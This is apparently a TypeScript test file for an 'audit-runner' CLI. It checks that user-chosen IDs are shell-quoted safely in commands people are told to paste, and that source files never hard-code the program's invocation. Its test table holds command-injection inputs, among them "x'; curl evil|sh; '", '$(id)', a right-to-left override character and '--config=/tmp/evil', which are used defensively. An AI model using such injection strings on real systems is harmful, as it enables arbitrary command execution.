/** Commands that people are told to paste. */
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { program } from '../../src/cli/main';
import { packageRoot } from '../../src/temporal/package-root';
import { asArgument, command, PROGRAM, programForWorkflows, programOf } from '../../src/text/command';

test.each([
  [undefined, undefined, 'npx audit-runner'],
  [undefined, '/home/anna/project/node_modules/.bin/audit-runner', 'npx audit-runner'],
  [undefined, '/home/anna/audit-runner/bin/audit-runner.js', 'npx audit-runner'],
  [undefined, '/usr/local/bin/audit-runner', 'audit-runner'],
  ['docker compose exec worker node bin/audit-runner.js', '/app/bin/audit-runner.js', undefined],
  ['', undefined, 'npx audit-runner'],
  ['two\nlines', undefined, 'npx audit-runner'],
  ['ends `code`', undefined, 'npx audit-runner'],
  ['\u202eturned', undefined, 'npx audit-runner'],
  ['x'.repeat(300), undefined, 'npx audit-runner'],
])('where the variable says %j and the script is %j, the program is called %j', (told, script, called = told) => {
  expect(programOf(told, script)).toBe(called);
});

test('what workflows are given is nothing but a text, on one line', () => {
  expect(programForWorkflows('npx audit-runner')).toBe('');
  const code = programForWorkflows('docker exec "x"; process.exit()');
  expect(code).toBe('globalThis.AUDIT_RUNNER_COMMAND="docker exec \\"x\\"; process.exit()";');
});

/** IDs as people choose them, and what must be pasted for each. */
const VALUES: readonly [value: string, shown: string][] = [
  ['lead-pipeline.default.2026-11-21', 'lead-pipeline.default.2026-11-21'],
  ['leads of this week', "'leads of this week'"],
  ['März (alle)', "'März (alle)'"],
  ["x'; curl evil|sh; '", '<run>'],
  ['$(id)', '<run>'],
  ['`id`', '<run>'],
  ['a & b', '<run>'],
  ['%PATH%', '<run>'],
  ['a\nb', '<run>'],
  ['\u202egpj', '<run>'],
  ['--config=/tmp/evil', '<run>'],
  ['', '<run>'],
];

test.each(VALUES)('the value %j is pasted as %s', (value, shown) => {
  expect(asArgument(value)).toBe(shown);
  expect(command('approve', value)).toBe(`${PROGRAM} approve ${shown}`);
});

test('a shell hands every value that is shown to the program as one word, unchanged', () => {
  for (const [value, shown] of VALUES.filter(([, text]) => text !== '<run>'))
    expect(execFileSync('sh', ['-c', `printf %s ${shown}`], { encoding: 'utf8' })).toBe(value);
});

/** All names by which something can be done: of groups the first word is enough. */
const names = program.commands.map((one) => one.name());
const PLAIN = new RegExp(`audit-runner (?:${names.join('|')})\\b`);

const sources = ['src', 'activities', 'workflows'].flatMap((folder) =>
  readdirSync(join(packageRoot(), folder), { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.ts'))
    .map((name) => join(folder, name)),
);

const isComment = (line: string) => /^\s*(?:\/?\*|\/\/)/.test(line);

test('no text writes out how the program is called, which differs from place to place: see src/text/command.ts', () => {
  expect(PLAIN.test('look with `audit-runner status`')).toBe(true);
  expect(sources.length).toBeGreaterThan(300);
  const written = sources.flatMap((file) =>
    readFileSync(join(packageRoot(), file), 'utf8')
      .split('\n')
      .flatMap((line, n) => (PLAIN.test(line) && !isComment(line) ? [`${file}:${n + 1}`] : [])),
  );
  expect(written).toEqual([]);
});
